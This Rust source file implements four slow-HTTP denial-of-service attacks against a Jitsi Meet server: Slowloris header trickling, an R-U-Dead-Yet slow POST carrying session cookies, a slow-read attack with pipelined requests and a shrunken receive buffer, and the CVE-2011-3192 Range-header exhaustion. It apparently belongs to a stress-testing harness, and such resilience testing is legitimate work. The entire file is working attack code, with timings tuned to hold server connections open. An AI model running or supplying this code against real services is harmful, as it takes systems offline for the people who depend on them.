//! The four modes of slowhttptest: connections that are kept busy with next to nothing.

use std::{io, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    time::{sleep, timeout},
};

use super::attackers::AttackStream;

/// A slow client.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum SlowClient {
    /// A head that never ends (Slowloris; slowhttptest -H).
    Head,
    /// A body of a person who is signed in that never ends (R-U-Dead-Yet; slowhttptest -B).
    Body,
    /// Answers that are not read: pipelined requests by a small window (slowhttptest -X).
    Reader,
    /// More ranges of a file than it has bytes (slowhttptest -R, CVE-2011-3192).
    Ranges,
}

// === impl SlowClient ===

impl SlowClient {
    /// The size of the receive buffer.
    pub(super) fn receive_buffer(self) -> Option<u32> {
        (self == Self::Reader).then_some(SMALL_BUFFER)
    }

    /// Runs until the end of the connection, and names it.
    pub(super) async fn run(self, mut stream: AttackStream, cookies: &str) -> String {
        if stream.write_all(&self.head(cookies)).await.is_err() {
            return "closed".to_owned();
        }
        let mut received = Vec::new();
        loop {
            if self == Self::Reader {
                sleep(READ_PAUSE).await;
                let mut few = [0; 16];
                match stream.read(&mut few).await {
                    Ok(1..) => continue,
                    Ok(0) | Err(_) => return "closed".to_owned(),
                }
            }
            match timeout(TRICKLE, stream.read_buf(&mut received)).await {
                Ok(Ok(1..)) => {}
                Ok(Ok(0) | Err(_)) => return end_of(&received),
                Err(_) => {
                    // The connection may have ended meanwhile, which the next read tells.
                    let _: io::Result<()> = stream.write_all(self.trickle()).await;
                    let _: io::Result<()> = stream.flush().await;
                }
            }
        }
    }

    fn head(self, cookies: &str) -> Vec<u8> {
        let host = "Host: meet.example.org\r\nUser-Agent: Mozilla/5.0\r\n";
        match self {
            Self::Head => format!("GET / HTTP/1.1\r\n{host}"),
            Self::Body => format!(
                "POST /http-bind?room=plan HTTP/1.1\r\n{host}Cookie: {cookies}\r\n\
                 Origin: https://meet.example.org\r\nContent-Type: text/xml\r\nContent-Length: 4096\r\n\r\n<body"
            ),
            Self::Reader => format!("GET {LARGE_FILE} HTTP/1.1\r\n{host}\r\n").repeat(PIPELINED),
            Self::Ranges => {
                let ranges: Vec<_> = (0..1300).map(|number| format!("5-{number}")).collect();
                let path = super::meeting::FILE;
                let range = format!("Range: bytes=0-,{}", ranges.join(","));
                format!("GET {path} HTTP/1.1\r\n{host}{range}\r\nConnection: close\r\n\r\n")
            }
        }
        .into_bytes()
    }

    fn trickle(self) -> &'static [u8] {
        match self {
            Self::Head => b"X-a: b\r\n",
            Self::Body => b"x",
            Self::Reader | Self::Ranges => b"",
        }
    }
}

/// The status of the answer; a connection may end without one.
fn end_of(received: &[u8]) -> String {
    let line = received.split(|byte| *byte == b'\r').next();
    let line = String::from_utf8_lossy(line.unwrap_or_default());
    let status = line.split(' ').nth(1).unwrap_or("no answer");
    format!("closed after {status}")
}

/// A file that is larger than what sockets keep of it.
pub(super) const LARGE_FILE: &str = "/libs/lib-jitsi-meet.min.js";
const PIPELINED: usize = 10;

/// The kernel makes it the least that it permits, some two kilobytes.
const SMALL_BUFFER: u32 = 1024;
const READ_PAUSE: Duration = Duration::from_secs(1);

/// Within every timer that a byte would start anew.
const TRICKLE: Duration = Duration::from_secs(1);
